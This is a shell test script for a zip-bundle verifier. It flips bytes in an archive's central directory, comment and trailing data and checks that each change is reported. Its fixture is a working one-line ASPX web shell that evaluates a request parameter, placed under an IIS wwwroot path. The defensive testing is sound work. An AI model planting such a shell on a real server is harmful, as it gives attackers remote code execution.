#!/bin/sh
# exhume verify checks the zip's own structure, not only what one reader
# sees: a central directory that disagrees with the local headers (name,
# time, sizes), a comment or trailing bytes after the end record, and bytes
# no entry describes are named, even when no side hash is at hand.
. "$TOP/tests/lib/tap.sh"
IMAGES=""
echo '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>' >"$TMP/shell.aspx"
"$TOOLS/bundle-demo" create "$TMP/b.zip" 'C:\inetpub\wwwroot\aspnet_client\shell.aspx'="$TMP/shell.aspx" \
    >/dev/null 2>&1
ok $? "a bundle is written through the bundle API"
rm -f "$TMP/b.zip.sha256"
run verify "$TMP/b.zip"
ok $RC "the untouched bundle verifies without its side hash (exit 0)"

# mutate KIND OUT: one change to the bundle, at the place KIND names.
mutate() {
	python3 - "$TMP/b.zip" "$2" "$1" <<'PY'
import struct, sys
src, dst, kind = sys.argv[1:4]
b = bytearray(open(src, 'rb').read())
eocd = len(b) - 22
assert b[eocd:eocd + 4] == b'PK\x05\x06'
cd = b.find(b'PK\x01\x02')
while True:	# the central record of the web shell's entry
    n, = struct.unpack_from('<H', b, cd + 28)
    name = bytes(b[cd + 46:cd + 46 + n])
    if name.startswith(b'files/'):
        break
    x, c = struct.unpack_from('<HH', b, cd + 30)
    cd = b.find(b'PK\x01\x02', cd + 46 + n + x + c)
if kind == 'cd-name':
    b[cd + 46 + n - 1] ^= 0x01          # shell.aspx -> shell.aspy
elif kind == 'cd-mtime':
    b[cd + 12] ^= 0x01
elif kind == 'cd-size':
    b[cd + 24] ^= 0x01
elif kind == 'comment':
    b[eocd + 20] = 4
    b += b'evil'
elif kind == 'trailing':
    b += b'\0' * 512
elif kind == 'gap':                     # bytes before the first entry
    off, = struct.unpack_from('<I', b, cd + 42)
    assert off > 0
open(dst, 'wb').write(b)
PY
}
for kind in cd-name cd-mtime cd-size comment trailing; do
	mutate $kind "$TMP/$kind.zip"
	run verify "$TMP/$kind.zip"
	[ "$RC" -eq 1 ] && grep -q '^archive: ' "$TMP/out"
	ok $? "a bundle with a changed $kind fails with an 'archive:' problem (exit 1)"
done
grep -q 'trailing data' "$TMP/out"; ok $? "trailing bytes are called trailing data"
mutate cd-name "$TMP/n.zip"
run verify "$TMP/n.zip"
grep -q 'name in the local header differs from the central directory' "$TMP/out"
ok $? "a flipped central-directory name is named as such"
done_testing
